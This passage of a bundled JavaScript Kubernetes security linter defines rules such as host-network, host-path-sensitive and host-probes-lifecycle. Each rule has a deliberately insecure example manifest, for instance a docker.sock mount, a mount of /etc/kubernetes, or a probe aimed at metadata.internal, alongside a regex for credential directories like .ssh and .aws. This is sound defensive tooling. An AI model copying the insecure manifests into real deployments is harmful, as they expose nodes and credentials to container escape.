        path: /var/run/docker.sock
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: docker
          mountPath: /var/run/docker.sock
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'resource',
    *check(resource) {
        for (const { node, path, name } of hostPathsOf(resource)) {
            if (path === null)
                continue;
            const direct = socketName.test(path);
            if (direct || directories.has(path))
                yield { at: node, message: `volume "${name}" mounts "${path}"${direct ? '' : ', where the runtime listens'}` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/cpu-limit-missing.js



const path = ['resources', 'limits', 'cpu'];
/* harmony default export */ const cpu_limit_missing = ((0,rule/* defineRule */.Km)({
    id: 'k8s/cpu-limit-missing',
    severity: 'low',
    strict: true,
    threat: 'container',
    summary: 'A container has no CPU limit',
    why: 'Without a limit one container may take all idle CPU of its node. Many prefer that to throttling: hence this is off by default.',
    instead: 'Set `resources.limits.cpu`, or a LimitRange.',
    references: [
        kubernetes('concepts/configuration/manage-resources-containers/', 'resource management'),
        nsa('Resource policies'),
        cwe(770),
    ],
    peers: ['trivy:KSV-0011', 'checkov:CKV_K8S_11', 'polaris:cpuLimitsMissing', 'kics:cpu_limits_not_set'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      resources:
        limits:
          cpu: 100m
`,
    on: 'container',
    guard: (container) => {
        const own = container.at(...path);
        return (0,yaml_values/* isUnset */.K$)(own) ? container.workload.at(...path) : own;
    },
    *check(container) {
        // An ephemeral container has no resources, and a pod may have them for all its containers.
        if (container.partial || container.type === 'ephemeral' || !(0,yaml_values/* isMissing */.b2)(container.node, ...path))
            return;
        if (!(0,yaml_values/* isMissing */.b2)(container.workload.spec, ...path))
            return;
        yield { at: container.anchor, field: path.join('.'), message: `container "${container.name}" has no cpu limit` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/cpu-request-missing.js



const cpu_request_missing_path = ['resources', 'requests', 'cpu'];
/* harmony default export */ const cpu_request_missing = ((0,rule/* defineRule */.Km)({
    id: 'k8s/cpu-request-missing',
    severity: 'low',
    strict: true,
    threat: 'container',
    summary: 'A container has no CPU request',
    why: 'Without a request the pod gets what others leave it, and the scheduler does not count it.',
    instead: 'Set `resources.requests.cpu`.',
    references: [
        kubernetes('concepts/configuration/manage-resources-containers/', 'resource management'),
        nsa('Resource policies'),
        cwe(770),
    ],
    peers: ['trivy:KSV-0015', 'checkov:CKV_K8S_10', 'kube-linter:unset-cpu-requirements', 'kics:cpu_requests_not_set'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      resources:
        requests:
          cpu: 100m
`,
    on: 'container',
    guard: (container) => {
        const own = container.at(...cpu_request_missing_path);
        return (0,yaml_values/* isUnset */.K$)(own) ? container.workload.at(...cpu_request_missing_path) : own;
    },
    *check(container) {
        // An ephemeral container has no resources, and a pod may have them for all its containers.
        if (container.partial || container.type === 'ephemeral' || !(0,yaml_values/* isMissing */.b2)(container.node, ...cpu_request_missing_path))
            return;
        if (!(0,yaml_values/* isMissing */.b2)(container.workload.spec, ...cpu_request_missing_path))
            return;
        yield { at: container.anchor, field: cpu_request_missing_path.join('.'), message: `container "${container.name}" has no cpu request` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/default-namespace.js


/* harmony default export */ const default_namespace = ((0,rule/* defineRule */.Km)({
    id: 'k8s/default-namespace',
    severity: 'low',
    strict: true,
    threat: 'access',
    summary: 'An object is put into the namespace default',
    why: 'Roles, policies and quotas hold for a namespace: in `default` everything that nobody placed shares them.',
    instead: 'Give each application a namespace of its own.',
    references: [kubernetes('concepts/overview/working-with-objects/namespaces/', 'namespaces'), nsa('Namespaces')],
    peers: ['trivy:KSV-0110', 'checkov:CKV_K8S_21', 'kics:using_unrecommended_namespace'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
  namespace: default
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
  namespace: shop
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'resource',
    *check(resource) {
        // The API server's own Service lives there.
        if (resource.kind === 'Service' && resource.name === 'kubernetes')
            return;
        const namespace = resource.at('metadata', 'namespace');
        if (namespace?.string === 'default')
            yield { at: namespace, message: `${resource.subject} is put into the namespace default` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/default-service-account.js



const account = (workload) => workload.at('serviceAccountName') ?? workload.at('serviceAccount');
/* harmony default export */ const default_service_account = ((0,rule/* defineRule */.Km)({
    id: 'k8s/default-service-account',
    severity: 'low',
    strict: true,
    threat: 'access',
    summary: 'A pod runs as the default service account',
    why: 'Permissions that are given to `default` for one workload are those of every pod of the namespace that names no other account.',
    instead: 'Create a ServiceAccount for the workload, and name it.',
    references: [kubernetes('concepts/security/service-accounts/', 'service accounts'), attack('T1078.001')],
    peers: ['kube-linter:default-service-account', 'kics:service_account_name_undefined_or_empty', 'checkov:CKV_K8S_41'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  serviceAccountName: web
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    guard: account,
    *check(workload) {
        // Without a token the account gives nothing.
        if (workload.at('automountServiceAccountToken')?.boolean === false)
            return;
        const name = account(workload);
        const message = `${workload.subject} runs as the service account "default"`;
        if (name?.kind === 'scalar' && (name.string === '' || name.string === 'default'))
            yield { at: name, message };
        else if (!workload.partial && (0,yaml_values/* isMissing */.b2)(workload.spec, 'serviceAccountName') && (0,yaml_values/* isMissing */.b2)(workload.spec, 'serviceAccount')) {
            yield { at: workload.anchor, field: 'serviceAccountName', message };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/documents/kubernetes-removals.js
/** Of the deprecated API migration guide, up to Kubernetes 1.31; `*` is every kind. */
const rows = [
    ['extensions/v1beta1', 'NetworkPolicy', '1.16', 'networking.k8s.io/v1', true],
    ['extensions/v1beta1', 'DaemonSet Deployment ReplicaSet', '1.16', 'apps/v1', false],
    ['extensions/v1beta1', 'PodSecurityPolicy', '1.16', null, false],
    ['extensions/v1beta1', 'Ingress', '1.22', 'networking.k8s.io/v1', false],
    ['extensions/v1beta1', '*', '1.22', null, false],
    ['apps/v1beta1', '*', '1.16', 'apps/v1', false],
    ['apps/v1beta2', '*', '1.16', 'apps/v1', false],
    ['admissionregistration.k8s.io/v1beta1', 'MutatingWebhookConfiguration', '1.22', 'admissionregistration.k8s.io/v1', false],
    ['admissionregistration.k8s.io/v1beta1', 'ValidatingWebhookConfiguration', '1.22', 'admissionregistration.k8s.io/v1', false],
    ['apiextensions.k8s.io/v1beta1', '*', '1.22', 'apiextensions.k8s.io/v1', false],
    ['apiregistration.k8s.io/v1beta1', '*', '1.22', 'apiregistration.k8s.io/v1', true],
    ['authentication.k8s.io/v1beta1', 'TokenReview', '1.22', 'authentication.k8s.io/v1', true],
    ['authorization.k8s.io/v1beta1', '*', '1.22', 'authorization.k8s.io/v1', false],
    ['certificates.k8s.io/v1beta1', 'CertificateSigningRequest', '1.22', 'certificates.k8s.io/v1', false],
    ['coordination.k8s.io/v1beta1', 'Lease', '1.22', 'coordination.k8s.io/v1', true],
    ['networking.k8s.io/v1beta1', 'Ingress', '1.22', 'networking.k8s.io/v1', false],
    ['networking.k8s.io/v1beta1', 'IngressClass', '1.22', 'networking.k8s.io/v1', true],
    ['rbac.authorization.k8s.io/v1alpha1', '*', '1.22', 'rbac.authorization.k8s.io/v1', false],
    ['rbac.authorization.k8s.io/v1beta1', '*', '1.22', 'rbac.authorization.k8s.io/v1', true],
    ['scheduling.k8s.io/v1beta1', 'PriorityClass', '1.22', 'scheduling.k8s.io/v1', true],
    ['storage.k8s.io/v1beta1', 'CSIDriver CSINode StorageClass VolumeAttachment', '1.22', 'storage.k8s.io/v1', true],
    ['batch/v1beta1', 'CronJob', '1.25', 'batch/v1', true],
    ['discovery.k8s.io/v1beta1', 'EndpointSlice', '1.25', 'discovery.k8s.io/v1', false],
    ['events.k8s.io/v1beta1', 'Event', '1.25', 'events.k8s.io/v1', false],
    ['autoscaling/v2beta1', 'HorizontalPodAutoscaler', '1.25', 'autoscaling/v2', false],
    ['policy/v1beta1', 'PodDisruptionBudget', '1.25', 'policy/v1', false],
    ['policy/v1beta1', 'PodSecurityPolicy', '1.25', null, false],
    ['node.k8s.io/v1beta1', 'RuntimeClass', '1.25', 'node.k8s.io/v1', true],
    ['flowcontrol.apiserver.k8s.io/v1beta1', '*', '1.26', 'flowcontrol.apiserver.k8s.io/v1', false],
    ['autoscaling/v2beta2', 'HorizontalPodAutoscaler', '1.26', 'autoscaling/v2', true],
    ['storage.k8s.io/v1beta1', 'CSIStorageCapacity', '1.27', 'storage.k8s.io/v1', true],
    ['flowcontrol.apiserver.k8s.io/v1beta2', '*', '1.29', 'flowcontrol.apiserver.k8s.io/v1', false],
];
function removalOf(apiVersion, kind) {
    const row = rows.find(([version, kinds]) => version === apiVersion && (kinds === '*' || kinds.split(' ').includes(kind)));
    return row && { since: row[2], instead: row[3], same: row[4] };
}

;// CONCATENATED MODULE: ./lib/rules/k8s/deprecated-api-version.js




/* harmony default export */ const deprecated_api_version = ((0,rule/* defineRule */.Km)({
    id: 'k8s/deprecated-api-version',
    severity: 'medium',
    threat: 'access',
    summary: 'An object is of an API version that clusters no longer serve',
    why: 'A current cluster refuses it: a policy, a role or a disruption budget that the repository shows is silently not there.',
    instead: 'Move to the version that replaced it.',
    references: [kubernetes('reference/using-api/deprecation-guide/', 'deprecated API migration guide')],
    peers: [
        'trivy:KSV-0107',
        'kube-linter:no-extensions-v1beta',
        'gatekeeper:verifydeprecatedapi',
        'kics:object_is_using_a_deprecated_api_version',
    ],
    bad: `
apiVersion: extensions/v1beta1
kind: NetworkPolicy
metadata:
  name: web
spec:
  podSelector: {}
  policyTypes: [Ingress]
`,
    good: `
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: web
spec:
  podSelector: {}
  policyTypes: [Ingress]
`,
    on: 'resource',
    *check(resource) {
        const removal = removalOf(resource.apiVersion, resource.kind);
        const at = resource.at('apiVersion');
        if (removal === undefined || at?.kind !== 'scalar')
            return;
        const { since, instead, same } = removal;
        const fix = same && instead !== null ? (0,rule/* safeFix */.bS)(`Use ${instead}`, replaceScalar(at, instead)) : undefined;
        const hint = instead === null ? 'nothing replaced it' : `use ${instead}`;
        yield {
            at,
            identity: resource.kind,
            message: `${resource.kind} of ${resource.apiVersion} is not served since Kubernetes ${since}: ${hint}`,
            fix,
        };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/host-ipc.js



/* harmony default export */ const k8s_host_ipc = ((0,rule/* defineRule */.Km)({
    id: 'k8s/host-ipc',
    severity: 'high',
    threat: 'runtime',
    summary: 'A pod shares the shared memory of its node',
    why: 'Such a pod reads and writes the shared memory, semaphores and message queues of every process of the node.',
    instead: 'Remove `hostIPC`; containers of one pod already share theirs.',
    references: [pss.baseline('Host Namespaces'), cwe(668), attack('T1611')],
    peers: ['trivy:KSV-0008', 'checkov:CKV_K8S_18', 'kube-linter:host-ipc', 'kics:shared_host_ipc_namespace'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  hostIPC: true
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        const value = workload.at('hostIPC');
        if (value?.boolean !== true)
            return;
        const fix = (0,rule/* unsafeFix */.ed)('Remove `hostIPC`', removeAt(workload.document.text, workload.spec, ['hostIPC']));
        yield { at: value, message: `${workload.subject} shares the shared memory of its node`, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/host-network.js



/* harmony default export */ const k8s_host_network = ((0,rule/* defineRule */.Km)({
    id: 'k8s/host-network',
    severity: 'high',
    threat: 'runtime',
    summary: 'A pod uses the network of its node',
    why: "Such a pod reaches what listens on the node's loopback, can watch the node's traffic, and no NetworkPolicy holds it.",
    instead: 'Remove `hostNetwork`, and publish the port with a Service.',
    references: [
        pss.baseline('Host Namespaces'),
        kubernetes('concepts/services-networking/network-policies/#networkpolicy-and-hostnetwork-pods', 'NetworkPolicy and hostNetwork pods'),
        attack('T1611'),
    ],
    peers: ['trivy:KSV-0009', 'checkov:CKV_K8S_19', 'kube-linter:host-network', 'kics:shared_host_network_namespace'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  hostNetwork: true
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        const value = workload.at('hostNetwork');
        if (value?.boolean !== true)
            return;
        const fix = (0,rule/* unsafeFix */.ed)('Remove `hostNetwork`', removeAt(workload.document.text, workload.spec, ['hostNetwork']));
        yield { at: value, message: `${workload.subject} uses the network of its node`, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/host-path-sensitive.js



/** With everything below them. */
const sensitive = [
    ...['/bin', '/boot', '/dev', '/etc', '/home', '/lib', '/lib32', '/lib64', '/proc', '/root', '/run', '/sbin', '/sys', '/usr'],
    ...['/var/run', '/var/lib/containerd', '/var/lib/docker', '/var/lib/etcd', '/var/lib/kubelet', '/var/lib/rancher', '/var/log/pods'],
];
/** Only themselves: what lies below them is mostly an application's own. */
const host_path_sensitive_parents = new Set(['/', '/var', '/var/lib', '/var/log', '/opt']);
/** Clock, certificates and kernel modules say nothing about a node that a container could not know. */
const host_path_sensitive_harmless = [
    '/etc/localtime',
    '/etc/timezone',
    '/etc/ssl/certs',
    '/etc/pki/tls/certs',
    '/etc/ca-certificates',
    '/usr/share/zoneinfo',
    '/usr/share/ca-certificates',
    '/usr/local/share/ca-certificates',
    '/etc/os-release',
    '/lib/modules',
];
/** Where tools for clouds and clusters keep the credentials of a user, below any directory. */
const credentials = /\/(?:\.aws|\.azure|\.docker|\.kube|\.ssh|\.config\/gcloud|gcloud)(?:\/|$)/;
/* harmony default export */ const host_path_sensitive = ((0,rule/* defineRule */.Km)({
    id: 'k8s/host-path-sensitive',
    severity: 'high',
    threat: 'runtime',
    summary: 'A pod mounts a system directory of its node',
    why: "The node's credentials, binaries and kernel interfaces lie there: reading them is a way into the cluster, writing them is the node itself.",
    instead: 'Mount a ConfigMap, a Secret, a projected token or a persistent volume instead.',
    references: [pss.baseline('HostPath Volumes'), kubernetes('concepts/storage/volumes/#hostpath', 'hostPath volumes'), attack('T1611')],
    peers: ['trivy:KSV-0121', 'kube-linter:sensitive-host-mounts', 'kics:workload_mounting_with_sensitive_os_directory'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: kubernetes
          mountPath: /host/kubernetes
  volumes:
    - name: kubernetes
      hostPath:
        path: /etc/kubernetes
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: settings
          mountPath: /etc/web
  volumes:
    - name: settings
      configMap:
        name: web
`,
    on: 'resource',
    *check(resource) {
        for (const { node, path, name } of hostPathsOf(resource)) {
            if (path === null || host_path_sensitive_harmless.some((known) => isWithin(path, known)))
                continue;
            if (host_path_sensitive_parents.has(path) || credentials.test(path) || sensitive.some((directory) => isWithin(path, directory)))
                yield { at: node, message: `volume "${name}" mounts "${path}" of the node` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/host-path-volume.js



/* harmony default export */ const host_path_volume = ((0,rule/* defineRule */.Km)({
    id: 'k8s/host-path-volume',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A pod mounts a directory of its node',
    why: 'Whatever lies there is shared with the node and with other pods, and stays behind when the pod is gone; many escapes begin with a mounted path.',
    instead: 'Use a persistent volume claim, an `emptyDir`, a ConfigMap or a Secret.',
    references: [pss.baseline('HostPath Volumes'), kubernetes('concepts/storage/volumes/#hostpath', 'hostPath volumes'), attack('T1611')],
    peers: ['trivy:KSV-0023', 'gatekeeper:host-filesystem', 'kyverno:disallow-host-path'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  volumes:
    - name: data
      hostPath:
        path: /data/web
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: data
          mountPath: /data
          readOnly: true
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  volumes:
    - name: data
      persistentVolumeClaim:
        claimName: web
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: data
          mountPath: /data
`,
    on: 'resource',
    *check(resource) {
        for (const { node, path, name } of hostPathsOf(resource)) {
            yield { at: node, message: `volume "${name}" mounts ${path === null ? 'a path' : `"${path}"`} of the node` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/host-path-writable.js





/* harmony default export */ const host_path_writable = ((0,rule/* defineRule */.Km)({
    id: 'k8s/host-path-writable',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A container may write to a directory of its node',
    why: 'A process of the node or another pod reads what is written there: a link, a library or a scheduled job is enough to leave the container.',
    instead: 'Set `readOnly: true` on the mount, or use a volume that is no path of the node.',
    references: [pss.baseline('HostPath Volumes'), kubernetes('concepts/storage/volumes/#hostpath', 'hostPath volumes'), attack('T1611')],
    peers: ['kube-linter:writable-host-mount', 'kics:volume_mount_with_os_directory_write_permissions', 'kyverno:ensure-readonly-hostpath'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  volumes:
    - name: data
      hostPath:
        path: /data/web
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: data
          mountPath: /data
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  volumes:
    - name: data
      hostPath:
        path: /data/web
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: data
          mountPath: /data
          readOnly: true
`,
    on: 'workload',
    *check(workload) {
        const mounts = mountsOf(workload);
        // Names of volumes are unique: with two of one name the API server refuses the pod.
        const volumes = new Map(hostPathsOf(workload.resource).map((volume) => [volume.name, volume]));
        for (const { name, path } of volumes.values()) {
            // Writing to a socket is sending to it: that is not a matter of the mount.
            if (path?.endsWith('.sock'))
                continue;
            for (const { node, container } of mounts.get(name) ?? []) {
                const readOnly = node.at('readOnly');
                if (readOnly?.boolean === true || (readOnly?.boolean !== false && (container.partial || !(0,yaml_values/* isMissing */.b2)(node, 'readOnly'))))
                    continue;
                const fix = (0,rule/* unsafeFix */.ed)('Mount it read-only', setAt(workload.document.text, node, ['readOnly'], true));
                const message = `container "${container.name}" may write to ${path === null ? 'a path' : `"${path}"`} of the node`;
                yield { at: node.at('mountPath') ?? node, field: 'readOnly', subject: container.subject, message, fix };
            }
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/host-pid.js



/* harmony default export */ const k8s_host_pid = ((0,rule/* defineRule */.Km)({
    id: 'k8s/host-pid',
    severity: 'high',
    threat: 'runtime',
    summary: 'A pod shares the processes of its node',
    why: 'Such a pod sees every process of the node with its arguments and environment, and may signal and, with one more right, trace them.',
    instead: 'Remove `hostPID`; containers of one pod can share processes by `shareProcessNamespace`.',
    references: [pss.baseline('Host Namespaces'), cwe(668), attack('T1611')],
    peers: ['trivy:KSV-0010', 'checkov:CKV_K8S_17', 'kube-linter:host-pid', 'kics:shared_host_pid_namespace'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  hostPID: true
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        const value = workload.at('hostPID');
        if (value?.boolean !== true)
            return;
        const fix = (0,rule/* unsafeFix */.ed)('Remove `hostPID`', removeAt(workload.document.text, workload.spec, ['hostPID']));
        yield { at: value, message: `${workload.subject} shares the processes of its node`, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/host-port.js




/* harmony default export */ const host_port = ((0,rule/* defineRule */.Km)({
    id: 'k8s/host-port',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A container takes a port of its node',
    why: 'The port is open on every address of the node, past Services and, with many network plugins, past NetworkPolicies.',
    instead: 'Publish the port with a Service.',
    references: [pss.baseline('Host Ports'), kubernetes('concepts/configuration/overview/', 'configuration best practices'), attack('T1133')],
    peers: ['trivy:KSV-0024', 'checkov:CKV_K8S_26', 'gatekeeper:host-network-ports', 'kyverno:disallow-host-ports'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      ports:
        - containerPort: 8080
          hostPort: 8080
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      ports:
        - containerPort: 8080
`,
    on: 'container',
    *check(container) {
        for (const port of (0,yaml_values/* mapsIn */.nf)(container.at('ports'))) {
            const value = port.at('hostPort');
            if (typeof value?.value !== 'number' || value.value === 0)
                continue;
            const fix = (0,rule/* unsafeFix */.ed)('Remove `hostPort`', removeAt(container.document.text, port, ['hostPort']));
            yield { at: value, message: `container "${container.name}" takes port ${value.value} of its node`, fix };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/host-probes-lifecycle.js



const handlers = [['livenessProbe'], ['readinessProbe'], ['startupProbe'], ['lifecycle', 'postStart'], ['lifecycle', 'preStop']];
/* harmony default export */ const host_probes_lifecycle = ((0,rule/* defineRule */.Km)({
    id: 'k8s/host-probes-lifecycle',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A probe or a hook sends requests to another host',
    why: 'The kubelet sends these requests from the node: whoever may write the pod makes it call any address that the node can reach.',
    instead: 'Leave `host` out: the address of the pod is the default.',
    references: [
        pss.baseline('Host Probes / Lifecycle Hooks'),
        cwe(918),
        kubernetes('tasks/configure-pod-container/configure-liveness-readiness-startup-probes/', 'probes'),
    ],
    peers: ['gatekeeper:host-probes-lifecycle'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      livenessProbe:
        httpGet:
          host: metadata.internal
          port: 80
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      livenessProbe:
        httpGet:
          port: 80
`,
    on: 'container',
    *check(container) {
        for (const handler of handlers) {
            for (const action of ['httpGet', 'tcpSocket']) {
                const path = [...handler, action, 'host'];
                const host = container.at(...path);
                if (host?.kind !== 'scalar' || host.templated || host.value === null || host.string === '')
                    continue;
                const fix = (0,rule/* unsafeFix */.ed)('Remove `host`', removeAt(container.document.text, container.node, path));
                yield { at: host, message: `the kubelet sends ${handler.join('.')} of container "${container.name}" to "${host.string}"`, fix };
            }
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/kubernetes-dashboard-deployed.js


const imageName = /(?:^|\/)(?:kubernetesui\/dashboard(?:-(?:api|auth|web))?|kubernetes-dashboard(?:-[\w-]+)?)(?:[:@]|$)/;
const isDashboard = (image) => image.includes('dashboard') && imageName.test(image);
const isName = (name) => name === 'kubernetes-dashboard';
/* harmony default export */ const kubernetes_dashboard_deployed = ((0,rule/* defineRule */.Km)({
    id: 'k8s/kubernetes-dashboard-deployed',
    severity: 'medium',
    threat: 'access',
    summary: 'The Kubernetes Dashboard is deployed',
    why: 'The dashboard acts with its own service account for whoever reaches it and logs in, and was the way into several clusters; it is archived.',
    instead: 'Use a client on the desk, such as Headlamp, with the permissions of its user.',
    references: [kubernetes('tasks/access-application-cluster/web-ui-dashboard/', 'Dashboard'), attack('T1133'), cwe(1104)],
    peers: ['checkov:CKV_K8S_33', 'kics:dashboard_is_enabled'],
    bad: `
apiVersion: apps/v1
kind: Deployment
metadata:
  name: kubernetes-dashboard
spec:
  selector:
    matchLabels:
      app: kubernetes-dashboard
  template:
    metadata:
      labels:
        app: kubernetes-dashboard
    spec:
      containers:
        - name: main
          image: kubernetesui/dashboard:v2.7.0
`,
    good: `
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels:
      app: web
  template:
    metadata:
      labels:
        app: web
    spec:
      containers:
        - name: main
          image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        const image = workload.containers.map((container) => container.at('image')).find((node) => isDashboard(node?.string ?? ''));
        const labels = ['k8s-app', 'app', 'app.kubernetes.io/name'].map((key) => workload.metadata?.at('labels', key));
        const found = image ?? labels.find((node) => isName(node?.string));
        const account = workload.at('serviceAccountName');
        const at = found ?? (isName(account?.string) ? account : undefined);
        // Its metrics scraper is no dashboard, but has its account.
        const says = found === undefined ? 'runs as the service account of' : 'is';
        if (at !== undefined)
            yield { at, field: 'product', identity: '', message: `${workload.subject} ${says} the Kubernetes Dashboard` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/memory-limit-missing.js



const memory_limit_missing_path = ['resources', 'limits', 'memory'];
/* harmony default export */ const k8s_memory_limit_missing = ((0,rule/* defineRule */.Km)({
    id: 'k8s/memory-limit-missing',
    severity: 'low',
    threat: 'container',
    summary: 'A container has no memory limit',
    why: 'One program that leaks, or is made to, takes the memory of its node from all others.',
    instead: 'Set `resources.limits.memory`.',
    references: [
        kubernetes('concepts/configuration/manage-resources-containers/', 'resource management'),
        nsa('Resource policies'),
        cwe(770),
    ],
    peers: ['trivy:KSV-0018', 'checkov:CKV_K8S_13', 'kube-linter:unset-memory-requirements', 'kics:memory_limits_not_defined'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      resources:
        limits:
          memory: 128Mi
`,
    on: 'container',
    guard: (container) => {
        const own = container.at(...memory_limit_missing_path);
        return (0,yaml_values/* isUnset */.K$)(own) ? container.workload.at(...memory_limit_missing_path) : own;
    },
    *check(container) {
        // An ephemeral container has no resources, and a pod may have them for all its containers.
        if (container.partial || container.type === 'ephemeral' || !(0,yaml_values/* isMissing */.b2)(container.node, ...memory_limit_missing_path))
            return;
        if (!(0,yaml_values/* isMissing */.b2)(container.workload.spec, ...memory_limit_missing_path))
            return;
        yield { at: container.anchor, field: memory_limit_missing_path.join('.'), message: `container "${container.name}" has no memory limit` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/memory-request-missing.js



const memory_request_missing_path = ['resources', 'requests', 'memory'];
/* harmony default export */ const memory_request_missing = ((0,rule/* defineRule */.Km)({
    id: 'k8s/memory-request-missing',
    severity: 'low',
    strict: true,
    threat: 'container',
    summary: 'A container has no memory request',
    why: 'Without a request the scheduler puts the pod on a full node, and it is the first to be killed there.',
    instead: 'Set `resources.requests.memory`.',
    references: [
        kubernetes('concepts/configuration/manage-resources-containers/', 'resource management'),
        nsa('Resource policies'),
        cwe(770),
    ],
    peers: ['trivy:KSV-0016', 'checkov:CKV_K8S_12', 'kics:memory_requests_not_defined'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      resources:
        requests:
          memory: 128Mi
`,
    on: 'container',
    guard: (container) => {
        const own = container.at(...memory_request_missing_path);
        return (0,yaml_values/* isUnset */.K$)(own) ? container.workload.at(...memory_request_missing_path) : own;
    },
    *check(container) {
        // An ephemeral container has no resources, and a pod may have them for all its containers.
        if (container.partial || container.type === 'ephemeral' || !(0,yaml_values/* isMissing */.b2)(container.node, ...memory_request_missing_path))
            return;
        if (!(0,yaml_values/* isMissing */.b2)(container.workload.spec, ...memory_request_missing_path))
            return;
        yield { at: container.anchor, field: memory_request_missing_path.join('.'), message: `container "${container.name}" has no memory request` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/pod-security-label-missing.js




const label = 'pod-security.kubernetes.io/enforce';
const pod_security_label_missing_system = new Set(['kube-system', 'kube-public', 'kube-node-lease']);
/* harmony default export */ const pod_security_label_missing = ((0,rule/* defineRule */.Km)({
    id: 'k8s/pod-security-label-missing',
    severity: 'low',
    strict: true,
    threat: 'runtime',
    summary: 'A namespace enforces no Pod Security Standard',
    why: 'Unless the API server has another default, any pod may run in such a namespace, a privileged one too.',
    instead: 'Label the namespace with `pod-security.kubernetes.io/enforce: baseline` or `restricted`.',
    references: [kubernetes('concepts/security/pod-security-admission/', 'Pod Security admission'), nsa('Pod security enforcement')],
    peers: ['kubescape:pod-security-admission-applied-2', 'kyverno:add-psa-namespace-reporting'],
    bad: `
apiVersion: v1
kind: Namespace
metadata:
  name: shop
`,
    good: `
apiVersion: v1
kind: Namespace
metadata:
  name: shop
  labels:
    pod-security.kubernetes.io/enforce: restricted
`,
    on: 'resource',
